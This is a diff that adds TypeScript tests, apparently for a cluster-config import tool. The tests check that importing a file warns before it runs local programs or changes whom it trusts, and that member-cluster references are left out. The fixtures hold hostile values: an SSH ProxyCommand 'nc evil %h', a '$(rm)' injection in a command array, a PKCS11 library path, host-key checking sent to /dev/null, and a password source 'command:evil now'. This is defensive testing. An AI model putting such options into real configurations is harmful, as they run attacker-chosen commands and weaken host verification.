@@ -187,3 +187,77 @@ nodes:
     await expect(from('', { file: '/dev/zero' })).rejects.toMatchObject({ code: 'USAGE' });
   });
 });
+
+describeWith(['flock'], 'what an import lets run', () => {
+  const start = 'ocf: 1\ncluster: {name: c}\nnodes: {old: {}}\n';
+  const hostile = JSON.stringify([
+    { name: 'n1', ssh: { options: { proxycommand: 'nc evil %h' } } },
+    { name: 'n2', ssh: { options: { proxycommand: 'nc evil %h', ProxyCommand: 'none' } } },
+    { name: 'n3', ssh: { jump: 'bastion', options: { KnownHostsCommand: '/bin/keys', PKCS11Provider: '/lib/x.so' } } },
+    { name: 'n4', transport: 'command', command: ['enter', '$(rm)\u009b'] },
+    { name: 'n5', transport: 'local' },
+    { name: 'old', ssh: { options: { UserKnownHostsFile: '/dev/null', Compression: 'yes' } } },
+  ]);
+
+  test('on this machine, and whom it trusts, is said before it is agreed to', async () => {
+    const { from, warnings } = await cluster(start);
+    let heard: readonly string[] = [];
+    const approve = async () => {
+      heard = [...warnings];
+    };
+    await from(hostile, { format: 'json', approve });
+    expect(heard).toEqual([
+      'To reach n[1-2], this program will run on this machine: nc evil %h (ssh.options.proxycommand).',
+      'The way to n3 will go through bastion (ssh.jump).',
+      'To reach n3, this program will run on this machine: /bin/keys (ssh.options.KnownHostsCommand).',
+      'To reach n3, ssh will load this library on this machine: /lib/x.so (ssh.options.PKCS11Provider).',
+      'To reach n4, this program will run on this machine: enter $(rm)\\u009b (command).',
+      'What is run on n5 will run on this machine (transport local).',
+      'Which host key of old is right will be decided by /dev/null (ssh.options.UserKnownHostsFile).',
+    ]);
+  });
+
+  test('is not said again when nothing comes of it', async () => {
+    const { from, warnings } = await cluster(start);
+    await from(hostile, { format: 'json' });
+    warnings.length = 0;
+    expect(await from(hostile, { format: 'json' })).toMatchObject({ changed: false });
+    expect(warnings).toEqual([]);
+  });
+
+  test('as a command that gives a secret', async () => {
+    const { from, warnings } = await cluster(start);
+    const text = `${start}devices: {p: {driver: manual, options: {password: {from: "command:evil now"}}}}\n`;
+    await from(text, { format: 'ocf' });
+    expect(warnings).toEqual(['For password of device p, this program will run on this machine: evil now.']);
+  });
+});
+
+describeWith(['flock'], 'clusters of clusters', () => {
+  test('a file with members comes without them and what names their nodes', async () => {
+    const { from, warnings, model } = await cluster('ocf: 1\ncluster: {name: c}\nnodes: {}\n');
+    await from(
+      `ocf: 1
+cluster: {name: c}
+members: {a: a}
+nodes: {n1: {}}
+groups: {g: "@a/web,n1", h: "a/n1", i: n1}
+devices: {p: {driver: manual, plugs: {n1: 1, a/n1: 2}}}
+fencing: {n1: [[p]], "a/n[1-2]": [[p]]}
+resources: {r: {agent: "ocf:heartbeat:Dummy", nodes: "@a/web"}, s: {agent: "ocf:heartbeat:Dummy", nodes: n1}}
+`,
+      { format: 'ocf' },
+    );
+    const { groups, devices, fencing, resources } = await model();
+    expect({ groups, plugs: devices.p?.plugs, fencing, resources: Object.keys(resources) }).toEqual({
+      groups: { i: 'n1' },
+      plugs: { n1: '1' },
+      fencing: [{ key: 'n1', levels: [['p']] }],
+      resources: ['s'],
+    });
+    expect(warnings.join('\n')).toContain('Left out, because clusters are not imported: member a (standard input:3).');
+    expect(warnings.join('\n')).toContain(
+      'because it names nodes of member clusters: group g (standard input:5), group h (standard input:5), plugs of p for a/n1 (standard input:6), fencing of a/n[1-2] (standard input:7), and 1 more.',
+    );
+  });
+});
